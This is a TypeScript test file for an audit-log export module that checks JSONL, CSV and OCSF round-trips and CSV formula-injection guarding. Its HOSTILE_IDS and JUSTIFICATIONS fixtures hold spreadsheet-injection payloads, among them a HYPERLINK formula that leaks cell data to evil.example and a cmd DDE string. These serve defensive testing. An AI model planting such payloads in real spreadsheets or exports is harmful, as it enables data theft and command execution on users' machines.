/**
 * Audit exports read back from a real SQLite audit store: every format parses back to the
 * stored events, the time window cuts at its boundaries, the CSV guards spreadsheets against
 * formulas, every OCSF event is valid by the OCSF 1.5.0 schema, and an export of 100,000
 * events streams in bounded memory, also through a real HTTP response to a slow client.
 */
import { ANOMALY_KINDS } from '../../core/model/anomaly.js';
import { mkdtemp, rm } from 'node:fs/promises';
import { createServer, request } from 'node:http';
import type { IncomingMessage, Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { setTimeout as sleep } from 'node:timers/promises';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AuditEvent, NewAuditEvent } from '../../core/model/audit-record.js';
import type { AuditLog } from '../../store/audit-log.js';
import {
  CSV_COLUMNS,
  EXPORT_FORMATS,
  OCSF_VERSION,
  contentTypeOf,
  csvCell,
  exportAudit,
  InvalidExportError,
} from '../../integrations/audit/export.js';
import type { ExportFormat, ExportOptions } from '../../integrations/audit/export.js';
import { GENESIS_HASH, hashEvent } from '../../core/crypto/hash-chain.js';
import { openStores, type Stores } from '../../store/stores.js';
import { EVENT_TYPES } from '../../core/model/events.js';
import type { Actor } from '../../core/model/elevation.js';
import type { EventType } from '../../core/model/events.js';
import type { TargetRef } from '../../core/model/targets.js';
import { ocsfSchemaErrors } from '../fixtures/ocsf/schema.js';

// ---------------------------------------------------------------------------------------------
// Realistic events

const START = Date.parse('2025-03-01T00:00:00.000Z');
const SYSTEM: Actor = { kind: 'system', id: 'elevate' };
const LDAP_OPS = { type: 'ldap', groupDn: 'cn=ops-admins,ou=groups,dc=example,dc=org' } satisfies TargetRef;
const PG_REPORTING = { type: 'postgres', server: 'warehouse', role: 'reporting_writer' } satisfies TargetRef;
const AWS_ATTACH = {
  type: 'aws-iam',
  mode: 'attach',
  policyDocument:
    '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"s3:PutObject","Resource":"*"}]}',
} satisfies TargetRef;
const AWS_CREDS = {
  type: 'aws-iam',
  mode: 'credentials',
  roleArn: 'arn:aws:iam::123456789012:role/deployer',
} satisfies TargetRef;

/** Justifications a bot may send: commas, quotes, line breaks, formulas, non-ASCII text. */
const JUSTIFICATIONS = [
  'Nightly ETL, "full" refresh',
  'line one\nline two',
  'crlf\r\nin the middle',
  '=HYPERLINK("http://evil.example","click")',
  'naïve café ☃ 日本語',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\tleading tab',
  '\rleading CR',
];

/** Ids an outsider can put in a cell: refused requests name the elevation from the URL. */
const HOSTILE_IDS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  'plain, "quoted"',
];

/**
 * Events as Elevate records them, cycling through ten stories (auto-approved LDAP grant,
 * quorum-approved PostgreSQL grant with failed revocation rounds, denial, approval timeout,
 * grant failure, withdrawal, AWS attach and credentials, a shared membership, and refusals and
 * drift that name no elevation). Some `at`s lag behind the chain, as write-behind and other
 * servers' clocks make them.
 */
function* realisticEvents(cycles: number): Generator<NewAuditEvent> {
  let t = START;
  let n = 0;
  let elevations = 0;
  const tick = (ms = 1000) => {
    t += ms;
    return new Date(t).toISOString();
  };
  const ev = (
    type: EventType,
    elevationId: string | null,
    actor: Actor,
    data: Record<string, unknown>,
    at = tick(),
  ): NewAuditEvent => {
    n += 1;
    return { id: `evt-${n}`, elevationId, type, at, actor, data };
  };
  const bot = (i: number) => ({
    id: `etl-bot-${i % 7}`,
    owner: 'data-team@example.org',
    team: 'data',
    purpose: 'nightly loads',
    environment: 'prod',
    principal: `uid=etl-bot-${i % 7},ou=bots,dc=example,dc=org`,
  });
  const requested = (id: string, i: number, target: TargetRef, principal: string) =>
    ev(
      'elevation.requested',
      id,
      { kind: 'bot', id: bot(i).id },
      {
        bot: { ...bot(i), principal },
        role: { id: `role-${target.type}`, environment: 'prod', target, maxDurationSeconds: 3600 },
        durationSeconds: 900,
        justification: JUSTIFICATIONS[i % JUSTIFICATIONS.length],
        ticket: i % 2 === 0 ? `OPS-${1000 + i}` : null,
        requestId: `req-${i}`,
      },
    );
  const receipt = (target: TargetRef, principal: string, extra: Record<string, unknown>) => ({
    target,
    principal,
    verifiedAt: new Date(t).toISOString(),
    ...extra,
  });
  const error = (type: string, message: string) => ({ type, message });

  for (let cycle = 0; cycle < cycles; cycle += 1) {
    for (let story = 0; story < 10; story += 1) {
      elevations += 1;
      const i = elevations;
      const id = `el_${i.toString(16).padStart(24, '0')}`;
      const dn = bot(i).principal;
      switch (story) {
        case 0: {
          yield requested(id, i, LDAP_OPS, dn);
          yield ev('elevation.approved', id, SYSTEM, { rule: 'auto' });
          // Written behind the step: its `at` is older than the event before it in the chain.
          yield ev(
            'grant.confirmed',
            id,
            SYSTEM,
            {
              receipt: receipt(LDAP_OPS, dn, { alreadyPresent: false, sharedWith: [] }),
            },
            new Date(t - 400).toISOString(),
          );
          // The bot extends it once, then asks past the role's cap.
          const asked: Actor = { kind: 'bot', id: bot(i).id };
          yield ev('elevation.extended', id, asked, {
            from: new Date(t + 900_000).toISOString(),
            to: new Date(t + 1_200_000).toISOString(),
            durationSeconds: 300,
            justification: JUSTIFICATIONS[i % JUSTIFICATIONS.length],
            requestedBy: asked,
            extensions: 1,
            lifetimeSeconds: 1200,
            maxTotalSeconds: 1800,
            rescheduled: i % 2 === 0,
          });
          yield ev('extend.refused', id, asked, {
            code: 'extension_too_long',
            message: 'the elevation would last 2400 s in all',
            durationSeconds: 1200,
            justification: 'more',
            ip: '198.51.100.7',
            userAgent: null,
          });
          // Then asks the approvers for one more (a role whose extensions they decide), denied.
          yield ev('extension.requested', id, asked, {
            number: 1,
            durationSeconds: 300,
            justification: 'one more table',
            requestedBy: asked,
            deadline: new Date(t + 1_200_000).toISOString(),
            quorum: 1,
            progress: [{ name: 'data-leads', quorum: 1, approved: 0 }],
          });
          yield ev(
            'extension.closed',
            id,
            { kind: 'human', id: 'lead@example.org' },
            {
              number: 1,
              outcome: 'denied',
              durationSeconds: 300,
              reason: 'not tonight',
              approvals: 0,
              deadline: new Date(t + 1_200_000).toISOString(),
            },
          );
          const startedAt = tick(900_000);
          yield ev(
            'revoke.started',
            id,
            SYSTEM,
            { reason: 'expired', comment: null, requestedBy: null },
            startedAt,
          );
          yield ev('elevation.revoked', id, SYSTEM, {
            reason: 'expired',
            startedAt,
            receipt: receipt(LDAP_OPS, dn, { removed: true, stillHeldBy: [] }),
            revokeAttempts: 0,
          });
          // Two emergencies on the break-glass path: one reviewed in time, one whose review was
          // missed (a stranger's try at reviewing it refused), its bot locked down.
          for (const missed of [false, true]) {
            const glass = `el_f${(i * 2 + Number(missed)).toString(16).padStart(23, '0')}`;
            const reviewId = `breakglass-review-${glass}`;
            yield requested(glass, i, LDAP_OPS, dn);
            yield ev('breakglass.activated', glass, asked, {
              botId: bot(i).id,
              roleId: 'role-ldap',
              owner: bot(i).owner,
              justification: 'the primary is down',
              durationSeconds: 600,
              maxSeconds: 900,
              reviewers: ['lee@example.org'],
              reviewDeadline: new Date(t + 3_600_000).toISOString(),
            });
            yield ev('elevation.approved', glass, SYSTEM, { rule: 'break_glass' });
            yield ev('grant.confirmed', glass, SYSTEM, {
              receipt: receipt(LDAP_OPS, dn, { alreadyPresent: false, sharedWith: [] }),
            });
            if (missed) {
              yield ev(
                'breakglass.refused',
                glass,
                { kind: 'human', id: 'mallory@example.org' },
                {
                  code: 'not_reviewer',
                  message: 'mallory@example.org is not a reviewer',
                  stage: 'callback',
                  ip: '198.51.100.9',
                },
              );
              yield ev('breakglass.review_missed', glass, SYSTEM, {
                reviewId,
                botId: bot(i).id,
                deadline: new Date(t + 3_600_000).toISOString(),
                reviewers: ['lee@example.org'],
                lockedDown: true,
              });
            } else {
              yield ev(
                'breakglass.reviewed',
                glass,
                { kind: 'human', id: 'lee@example.org' },
                {
                  reviewId,
                  botId: bot(i).id,
                  reviewer: 'lee@example.org',
                  outcome: 'confirmed',
                  comment: 'the outage ticket matches',
                  late: false,
                  lockedDown: false,
                  evidence: {
                    issuer: 'https://idp.example.org',
                    amr: ['otp'],
                    authTime: new Date(t).toISOString(),
                  },
                },
              );
            }
          }
          // A role bundle: an LDAP and a PostgreSQL role granted together, then revoked together.
          {
            const bundled = `el_b${i.toString(16).padStart(23, '0')}`;
            const login = `etl_bot_${i % 7}`;
            const asked = requested(bundled, i, LDAP_OPS, dn);
            yield {
              ...asked,
              data: {
                ...asked.data,
                bundle: {
                  id: 'release-train',
                  roles: [
                    { role: { id: 'role-ldap', target: LDAP_OPS }, principal: dn },
                    { role: { id: 'role-postgres', target: PG_REPORTING }, principal: login },
                  ],
                },
              },
            };
            yield ev('elevation.approved', bundled, SYSTEM, { rule: 'auto' });
            const grants = [
              {
                roleId: 'role-ldap',
                receipt: receipt(LDAP_OPS, dn, { alreadyPresent: false, sharedWith: [] }),
              },
              {
                roleId: 'role-postgres',
                receipt: receipt(PG_REPORTING, login, { alreadyPresent: false, sharedWith: [] }),
              },
            ];
            for (const grant of grants) yield ev('grant.confirmed', bundled, SYSTEM, grant);
            yield ev('bundle.granted', bundled, SYSTEM, { bundle: 'release-train', grants });
            const bundleEnd = tick(600_000);
            yield ev(
              'revoke.started',
              bundled,
              SYSTEM,
              { reason: 'expired', comment: null, requestedBy: null },
              bundleEnd,
            );
            yield ev('elevation.revoked', bundled, SYSTEM, {
              reason: 'expired',
              startedAt: bundleEnd,
              receipts: [
                { roleId: 'role-ldap', receipt: receipt(LDAP_OPS, dn, { removed: true, stillHeldBy: [] }) },
                {
                  roleId: 'role-postgres',
                  receipt: receipt(PG_REPORTING, login, { removed: true, stillHeldBy: [] }),
                },
              ],
              revokeAttempts: 0,
            });
          }
          break;
        }
        case 1: {
          const login = `etl_bot_${i % 7}`;
          yield requested(id, i, PG_REPORTING, login);
          const approver = (who: string, count: number) =>
            ev(
              'approval.accepted',
              id,
              { kind: 'human', id: who },
              {
                approver: who,
                groups: ['data-leads'],
                evidence: { iss: 'https://idp.example.org', sub: who, amr: ['pwd', 'otp'], acr: 'mfa' },
                comment: count === 1 ? 'ok, "go"' : null,
                count,
                progress: [{ name: 'data-leads', quorum: 2, approved: count }],
              },
            );
          // Nobody had decided after ten minutes: the approvers were reminded, then on-call asked.
          const progress = [{ name: 'data-leads', quorum: 2, approved: 0 }];
          const deadline = new Date(t + 3_600_000).toISOString();
          yield ev('approval.reminded', id, SYSTEM, {
            number: 1,
            secondsLeft: 3000,
            approvals: 0,
            progress,
            escalated: false,
            deadline,
          });
          yield ev('approval.escalated', id, SYSTEM, {
            groups: ['data-oncall'],
            afterSeconds: 900,
            approvals: 0,
            progress,
            escalationProgress: [{ name: 'data-oncall', quorum: 1, approved: 0 }],
            deadline,
          });
          yield approver('alice@example.org', 1);
          yield ev(
            'approval.refused',
            id,
            { kind: 'human', id: 'alice@example.org' },
            {
              code: 'already_approved',
              message: 'alice@example.org has already approved',
            },
          );
          yield approver('bob@example.org', 2);
          yield ev('elevation.approved', id, SYSTEM, { approvers: ['alice@example.org', 'bob@example.org'] });
          yield ev('grant.confirmed', id, SYSTEM, {
            receipt: receipt(PG_REPORTING, login, { alreadyPresent: false, sharedWith: [] }),
          });
          const by: Actor = { kind: 'bot', id: bot(i).id };
          const startedAt = tick(60_000);
          yield ev(
            'revoke.started',
            id,
            by,
            { reason: 'given_back', comment: 'done, thanks', requestedBy: by },
            startedAt,
          );
          for (let attempt = 1; attempt <= 2; attempt += 1) {
            yield ev('revoke.failed', id, SYSTEM, {
              attempt,
              error: error('TargetUnreachableError', 'connect ECONNREFUSED 10.0.0.7:5432'),
            });
          }
          yield ev('elevation.revoked', id, SYSTEM, {
            reason: 'given_back',
            startedAt,
            receipt: receipt(PG_REPORTING, login, { removed: true, stillHeldBy: [] }),
            revokeAttempts: 2,
          });
          break;
        }
        case 2: {
          yield requested(id, i, LDAP_OPS, dn);
          yield ev(
            'deny.refused',
            id,
            { kind: 'human', id: HOSTILE_IDS[i % HOSTILE_IDS.length]! },
            {
              code: 'not_eligible',
              message: 'not an approver for this role',
              reason: 'nope',
            },
          );
          yield ev(
            'elevation.denied',
            id,
            { kind: 'human', id: 'carol@example.org' },
            {
              reason: 'Not during the freeze, "sorry"',
            },
          );
          break;
        }
        case 3:
          yield requested(id, i, PG_REPORTING, `etl_bot_${i % 7}`);
          yield ev(
            'elevation.expired',
            id,
            SYSTEM,
            {
              approvals: 0,
              progress: [{ name: 'data-leads', quorum: 2, approved: 0 }],
            },
            tick(3_600_000),
          );
          break;
        case 4: {
          yield requested(id, i, LDAP_OPS, dn);
          if (cycle % 2 === 0) {
            yield ev('elevation.failed', id, SYSTEM, { error: 'durationSeconds 900 is outside 1..600' });
            break;
          }
          yield ev('elevation.approved', id, SYSTEM, { rule: 'auto' });
          yield ev('grant.failed', id, SYSTEM, {
            error: error('TargetNotFoundError', 'no such object: cn=ops-admins,ou=groups,dc=example,dc=org'),
          });
          const startedAt = tick();
          yield ev(
            'revoke.started',
            id,
            SYSTEM,
            { reason: 'grant_failed', comment: null, requestedBy: null },
            startedAt,
          );
          yield ev('elevation.failed', id, SYSTEM, {
            reason: 'grant_failed',
            startedAt,
            receipt: receipt(LDAP_OPS, dn, { removed: false, stillHeldBy: [] }),
            revokeAttempts: 0,
          });
          break;
        }
        case 5:
          yield requested(id, i, LDAP_OPS, dn);
          yield ev(
            'elevation.revoked',
            id,
            { kind: 'bot', id: bot(i).id },
            {
              reason: 'withdrawn',
              comment: 'not needed after all',
              granted: false,
            },
          );
          break;
        case 6: {
          const arn = `arn:aws:iam::123456789012:role/bots/etl-bot-${i % 7}`;
          yield requested(id, i, AWS_ATTACH, arn);
          yield ev('elevation.approved', id, SYSTEM, { rule: 'auto' });
          yield ev('grant.confirmed', id, SYSTEM, {
            receipt: receipt(AWS_ATTACH, arn, { alreadyPresent: false, sharedWith: [] }),
          });
          const admin: Actor = { kind: 'admin', id: 'secops' };
          const startedAt = tick();
          yield ev(
            'revoke.started',
            id,
            admin,
            { reason: 'admin_revoked', comment: 'incident 42', requestedBy: admin },
            startedAt,
          );
          yield ev('elevation.revoked', id, SYSTEM, {
            reason: 'admin_revoked',
            startedAt,
            receipt: receipt(AWS_ATTACH, arn, { removed: true, stillHeldBy: [] }),
            revokeAttempts: 0,
          });
          yield ev(
            'revoke.refused',
            id,
            { kind: 'bot', id: bot(i).id },
            { code: 'already_ended', status: 'revoked' },
          );
          break;
        }
        case 7: {
          // Credentials mode: on even cycles the bot fetches them (twice: the second is refused)
          // and an admin revokes early, so the session is denied in AWS; on odd cycles nobody
          // fetches them and the undelivered credentials are destroyed at expiry.
          const fetched = cycle % 2 === 0;
          const by: Actor = { kind: 'bot', id: bot(i).id };
          const session = { sessionName: `elevate-${id}`, expiration: new Date(t + 901_000).toISOString() };
          yield requested(id, i, AWS_CREDS, AWS_CREDS.roleArn);
          yield ev('elevation.approved', id, SYSTEM, { rule: 'auto' });
          yield ev('grant.confirmed', id, SYSTEM, {
            receipt: receipt(AWS_CREDS, AWS_CREDS.roleArn, {
              alreadyPresent: false,
              sharedWith: [],
              session,
            }),
          });
          if (fetched) {
            yield ev('credentials.delivered', id, by, { ...session, ip: '10.1.2.3' });
            yield ev('credentials.refused', id, by, {
              reason: 'already_delivered',
              status: 'active',
              session,
              ip: '10.9.9.9',
            });
          }
          const admin: Actor = { kind: 'admin', id: 'secops' };
          const reason = fetched ? 'admin_revoked' : 'expired';
          const startedAt = tick(fetched ? 60_000 : 900_000);
          yield ev(
            'revoke.started',
            id,
            fetched ? admin : SYSTEM,
            { reason, comment: null, requestedBy: fetched ? admin : null },
            startedAt,
          );
          yield ev('elevation.revoked', id, SYSTEM, {
            reason,
            startedAt,
            receipt: receipt(AWS_CREDS, AWS_CREDS.roleArn, {
              removed: true,
              stillHeldBy: [],
              session: { ...session, delivered: fetched, denied: fetched },
            }),
            revokeAttempts: 0,
          });
          if (!fetched) {
            yield ev('credentials.refused', id, by, {
              reason: 'not_active',
              status: 'revoked',
              ip: '10.1.2.3',
            });
          }
          break;
        }
        case 8: {
          const other = `el_${(i - 8).toString(16).padStart(24, '0')}`;
          yield requested(id, i, LDAP_OPS, dn);
          yield ev('elevation.approved', id, SYSTEM, { rule: 'auto' });
          yield ev('grant.confirmed', id, SYSTEM, {
            receipt: receipt(LDAP_OPS, dn, { alreadyPresent: true, sharedWith: [other] }),
          });
          const startedAt = tick(900_000);
          yield ev(
            'revoke.started',
            id,
            SYSTEM,
            { reason: 'expired', comment: null, requestedBy: null },
            startedAt,
          );
          yield ev('elevation.revoked', id, SYSTEM, {
            reason: 'expired',
            startedAt,
            receipt: receipt(LDAP_OPS, dn, { removed: false, stillHeldBy: [other] }),
            revokeAttempts: 0,
          });
          break;
        }
        default: {
          const hostile = HOSTILE_IDS[i % HOSTILE_IDS.length]!;
          // Another server's clock, five seconds behind.
          yield ev(
            'auth.refused',
            null,
            { kind: 'anonymous', id: 'unknown' },
            {
              reason: ['missing', 'malformed', 'unknown_key', 'expired_token'][i % 4],
              method: 'POST',
              path: '/v1/elevations',
              ip: `192.0.2.${i % 250}`,
              ...(i % 4 === 2 ? { credential: 'sha256:3f2a9c' } : {}),
            },
            new Date(t - 5000).toISOString(),
          );
          // The same refusal repeated in its minute: counted, then summarised when it ends.
          yield ev(
            'refusals.summarized',
            null,
            { kind: 'anonymous', id: 'unknown' },
            {
              of: 'auth.refused',
              reason: ['missing', 'malformed', 'unknown_key', 'rate_limited'][i % 4],
              route: '/v1/elevations',
              network: '192.0.2.0/24',
              count: 2 + (i % 50),
              from: new Date(t - 5000).toISOString(),
              to: new Date(t - 4000).toISOString(),
            },
            new Date(t - 4000).toISOString(),
          );
          yield ev(
            'audit.exported',
            null,
            { kind: 'admin', id: 'secops' },
            {
              format: ['jsonl', 'csv', 'ocsf'][i % 3],
              since: i % 2 === 0 ? new Date(t - 86_400_000).toISOString() : null,
              until: null,
            },
          );
          yield ev(
            'request.refused',
            null,
            { kind: 'bot', id: bot(i).id },
            {
              method: 'POST',
              path: '/v1/elevations',
              code: 'invalid_request',
              field: 'durationSeconds',
              message: 'durationSeconds must be at most 3600, got 7200',
            },
          );
          yield ev(
            'request.refused',
            hostile,
            { kind: 'admin', id: 'secops' },
            {
              method: 'GET',
              path: '/v1/admin/elevations/:id',
              code: 'not_found',
              field: null,
              message: 'elevation not found',
            },
          );
          yield ev(
            'approval.refused',
            null,
            { kind: 'human', id: hostile },
            {
              code: 'not_found',
              message: 'elevation not found',
              stage: 'precheck',
              ip: '198.51.100.4',
            },
          );
          const drift = {
            role: 'role-ldap',
            target: LDAP_OPS,
            principal: 'uid=intruder,ou=people,dc=example,dc=org',
            bot: false,
          };
          yield ev('drift.detected', null, SYSTEM, { ...drift, action: 'revert' });
          yield ev('drift.reverted', null, SYSTEM, { ...drift, action: 'revert' });
          // Continuous detection: an anomaly across requests (no elevation).
          yield ev('anomaly.detected', null, SYSTEM, {
            kind: ANOMALY_KINDS[i % ANOMALY_KINDS.length]!,
            botId: bot(i).id,
            severity: (['low', 'medium', 'high'] as const)[i % 3]!,
            text: `bot ${bot(i).id} did something unusual`,
            evidence: { requestsLastHour: 40 + i, threshold: 30 },
            ...(i % 5 === 0
              ? { fleet: { by: 'team' as const, id: 'data', bots: [bot(i).id, 'other-bot'] } }
              : {}),
          });
          // Owner attestation: the owner asked, an answer (roles kept and trimmed), an
          // unanswered one that suspended the bot, and someone else's refused attempt.
          const attestationId = `attestation-${bot(i).id}-2026-03-${String((i % 28) + 1).padStart(2, '0')}`;
          const owner = `${bot(i).id}-owner@example.org`;
          const roles = ['role-ldap', 'role-pg'];
          yield ev('attestation.requested', null, SYSTEM, {
            attestationId,
            botId: bot(i).id,
            owner,
            roles,
            trimmed: [],
            deadline: new Date(t + 7 * 86_400_000).toISOString(),
          });
          if (i % 4 === 0) {
            yield ev('attestation.expired', null, SYSTEM, {
              attestationId,
              botId: bot(i).id,
              owner,
              deadline: new Date(t).toISOString(),
              roles,
            });
          } else {
            yield ev(
              'attestation.refused',
              null,
              { kind: 'human', id: hostile },
              {
                code: 'not_owner',
                message: `${hostile} is not the owner of ${bot(i).id}`,
                attestationId,
                botId: bot(i).id,
                stage: 'callback',
                ip: '198.51.100.4',
              },
            );
            yield ev(
              'attestation.confirmed',
              null,
              { kind: 'human', id: owner },
              {
                attestationId,
                botId: bot(i).id,
                owner,
                kept: ['role-ldap'],
                trimmed: ['role-pg'],
                evidence: { amr: ['otp'] },
              },
            );
          }
          // Someone with Temporal access but not the API's key: a forged approval, a forged
          // start, and a lease whose workflow was terminated, found by reconciliation.
          const temporal = { kind: 'anonymous' as const, id: 'temporal' };
          yield ev('decision.refused', id, temporal, {
            decision: 'approve',
            code: ['unsigned', 'unknown_key', 'bad_signature', 'replayed', 'stale'][i % 5],
            message: 'the decision is not signed by Elevate (no decision token)',
            kid: i % 5 === 1 ? 'kWOxl9188ZHoeKxQVh-Eb78DT_Nfvd_aItxFy72JA8I' : null,
            claimed: i % 3 === 0 ? null : { kind: 'human', id: hostile },
            at: new Date(t).toISOString(),
          });
          yield ev('request.unverified', hostile, temporal, {
            code: 'unsigned',
            message: 'the workflow was started without the API signature (not through Elevate)',
            kid: null,
            claimed: { bot: bot(i).id, role: 'role-ldap', durationSeconds: 3600 },
          });
          yield ev('lease.orphaned', id, SYSTEM, {
            workflowId: `elevation-${id}`,
            workflowStatus: i % 2 === 0 ? 'TERMINATED' : 'NOT_FOUND',
            target: LDAP_OPS,
            principal: dn,
            acquiredAt: new Date(t - 60_000).toISOString(),
          });
          // An admin's runtime changes to a bot: no elevation, the admin as actor.
          const admin = { kind: 'admin' as const, id: i % 2 === 0 ? 'secops' : 'ann@example.org' };
          const botId = bot(i).id;
          const via = i % 2 === 0 ? {} : { via: 'console' };
          yield ev('bot.disabled', null, admin, {
            botId,
            reason: 'investigating',
            wasDisabled: false,
            policyDisabled: false,
            ...via,
          });
          yield ev('bot.enabled', null, admin, {
            botId,
            reason: null,
            wasDisabled: true,
            policyDisabled: false,
            ...via,
          });
          yield ev('bot.locked', null, admin, {
            botId,
            reason: JUSTIFICATIONS[i % JUSTIFICATIONS.length],
            alreadyLocked: i % 3 === 0,
            revoked: i % 3 === 0 ? [] : [id],
            failed: [],
            ...via,
          });
          yield ev('bot.key_rotated', null, admin, {
            botId,
            reason: 'suspected leak',
            credential: '3f2a9c0d1e2f',
            previousCredential: '9b80fce21a0b',
            ...via,
          });
          yield ev('bot.unlocked', null, admin, {
            botId,
            reason: 'incident closed',
            wasLocked: true,
            ...via,
          });
          // The admin console: a sign-in, a revocation asked for there, a verification.
          const person = { kind: 'admin' as const, id: 'ann@example.org' };
          yield ev('admin.signed_in', null, person, {
            via: 'console',
            issuer: 'https://idp.example.org',
            subject: 'ann',
            email: person.id,
            amr: ['pwd', 'otp'],
            acr: null,
            authTime: new Date(t).toISOString(),
            mfaMethod: 'otp',
            rights: ['oidc_group'],
            ip: '198.51.100.9',
          });
          yield ev('admin.action', id, person, {
            action: 'revoke_elevation',
            via: 'console',
            reason: 'no longer needed',
          });
          yield ev('admin.action', null, person, {
            action: 'verify_audit',
            via: 'console',
            anchors: [],
            ok: true,
            checked: n,
            head: null,
            firstBroken: null,
          });
          break;
        }
      }
    }
  }
}

// ---------------------------------------------------------------------------------------------
// Helpers

/** Every event of the store, in chain order. */
async function readAll(store: Pick<AuditLog, 'readEvents'>): Promise<AuditEvent[]> {
  const all: AuditEvent[] = [];
  for (;;) {
    const page = await store.readEvents(all.at(-1)?.position ?? 0, 5000);
    if (page.length === 0) return all;
    all.push(...page);
  }
}

async function collect(chunks: AsyncIterable<string>): Promise<string[]> {
  const out: string[] = [];
  for await (const chunk of chunks) out.push(chunk);
  return out;
}

async function exportText(store: Pick<AuditLog, 'readEvents'>, opts: ExportOptions): Promise<string> {
  return (await collect(exportAudit(store, opts))).join('');
}

function ndjson(text: string): Record<string, unknown>[] {
  if (text === '') return [];
  expect(text.endsWith('\n')).toBe(true);
  return text
    .slice(0, -1)
    .split('\n')
    .map((line) => JSON.parse(line) as Record<string, unknown>);
}

/** A strict RFC 4180 reader: CRLF row ends, quoted fields with doubled quotes; anything else throws. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    let cell = '';
    if (text[i] === '"') {
      i += 1;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            cell += '"';
            i += 2;
            continue;
          }
          i += 1;
          break;
        }
        cell += text[i];
        i += 1;
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') {
        if (text[i] === '"') throw new Error(`bare quote in an unquoted field at ${i}`);
        cell += text[i];
        i += 1;
      }
    }
    row.push(cell);
    if (text[i] === ',') {
      i += 1;
    } else if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
    } else {
      throw new Error(`expected , or CRLF at ${i}, found ${JSON.stringify(text.slice(i, i + 10))}`);
    }
  }
  if (row.length > 0) throw new Error('last row does not end with CRLF');
  return rows;
}

/** What a spreadsheet-safe cell should hold for a stored value (the rule, restated). */
function guarded(value: string): string {
  return /^[=+\-@\t\r]/.test(value) ? `'${value}` : value;
}

/** The value at a dotted path, or undefined. */
function pathValue(record: Record<string, unknown>, path: string): unknown {
  let value: unknown = record;
  for (const key of path.split('.')) {
    if (typeof value !== 'object' || value === null) return undefined;
    value = (value as Record<string, unknown>)[key];
  }
  return value;
}

/** The stored event as the `jsonl` export writes it. */
function asRecord(event: AuditEvent): Record<string, unknown> {
  return JSON.parse(JSON.stringify(event)) as Record<string, unknown>;
}

function inWindow(event: AuditEvent, since?: string, until?: string): boolean {
  const at = Date.parse(event.at);
  return (since === undefined || at >= Date.parse(since)) && (until === undefined || at < Date.parse(until));
}

/** A store that records each `readEvents` call. */
function spyOn(store: Pick<AuditLog, 'readEvents'>) {
  const calls: [number, number][] = [];
  return {
    calls,
    store: {
      readEvents(after: number, limit: number) {
        calls.push([after, limit]);
        return store.readEvents(after, limit);
      },
    } satisfies Pick<AuditLog, 'readEvents'>,
  };
}

function countLines(chunk: string): number {
  let count = 0;
  for (let i = chunk.indexOf('\n'); i >= 0; i = chunk.indexOf('\n', i + 1)) count += 1;
  return count;
}

// ---------------------------------------------------------------------------------------------

let dir = '';
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'elevate-audit-export-'));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

describe('audit export of a realistic log', () => {
  let stores: Stores;
  let store: AuditLog;
  let all: AuditEvent[];

  beforeAll(async () => {
    stores = await openStores({ sqlitePath: join(dir, 'realistic.db') });
    store = stores.auditLog;
    for (const event of realisticEvents(300)) await store.append(event);
    all = await readAll(store);
  });
  afterAll(() => stores.database.close());

  it('when the log is written, then it holds a few hundred events of every event type', () => {
    const counts = new Map<string, number>();
    for (const e of all) counts.set(e.type, (counts.get(e.type) ?? 0) + 1);
    expect([...counts.keys()].sort()).toEqual([...EVENT_TYPES].sort());
    for (const type of EVENT_TYPES) expect(counts.get(type), type).toBeGreaterThanOrEqual(150);
    expect(all.length).toBeGreaterThan(1000);
  });

  it('when exported as jsonl, then each line is one stored event with every field, and the chain re-verifies', async () => {
    const lines = ndjson(await exportText(store, { format: 'jsonl' }));

    expect(lines).toEqual(all.map(asRecord));
    let prevHash = GENESIS_HASH;
    for (const line of lines) {
      const { hash, ...unhashed } = line as unknown as AuditEvent;
      expect(unhashed.prevHash).toBe(prevHash);
      expect(hashEvent(unhashed)).toBe(hash);
      prevHash = hash;
    }
  });

  it('when exported as csv, then an RFC 4180 reader gets the header and every event back', async () => {
    const text = await exportText(store, { format: 'csv' });
    const rows = parseCsv(text);

    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(all.length + 1);
    // One comparison for the whole log: the stored events as the cells should read.
    const expected = all.map((e) => [
      String(e.position),
      e.id,
      e.at,
      e.type,
      guarded(e.elevationId ?? ''),
      String(e.seq),
      e.actor.kind,
      guarded(e.actor.id),
      e.data,
      e.prevHash,
      e.hash,
      // No event here records a risk score (test/unit/risk-exports.test.ts has those).
      '',
      '',
      '',
    ]);
    const got = rows
      .slice(1)
      .map((row) => row.map((cell, c) => (c === 8 ? JSON.parse(cell) : cell) as unknown));
    expect(got).toEqual(expected);
  });

  it('when a cell would start a formula, then it gets a leading quote, and quoting still round-trips', async () => {
    const rows = parseCsv(await exportText(store, { format: 'csv' }));
    const cells = rows.flat();

    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    // The hostile ids were stored, and come out as text.
    for (const hostile of HOSTILE_IDS) {
      expect(all.some((e) => e.elevationId === hostile || e.actor.id === hostile)).toBe(true);
      expect(cells).toContain(guarded(hostile));
    }
    expect(cells).toContain(`'=HYPERLINK("http://evil.example/?leak="&A1,"x")`);
    expect(csvCell('=1+1')).toBe(`'=1+1`);
    expect(csvCell('-2+3')).toBe(`'-2+3`);
    expect(csvCell('@x')).toBe(`'@x`);
    expect(csvCell('+x')).toBe(`'+x`);
    expect(csvCell('\tx')).toBe(`'\tx`);
    expect(csvCell('\r=x')).toBe(`"'\r=x"`);
    expect(csvCell('a,"b"')).toBe(`"a,""b"""`);
    expect(csvCell('a\nb')).toBe(`"a\nb"`);
    expect(csvCell('x=1')).toBe('x=1');
  });

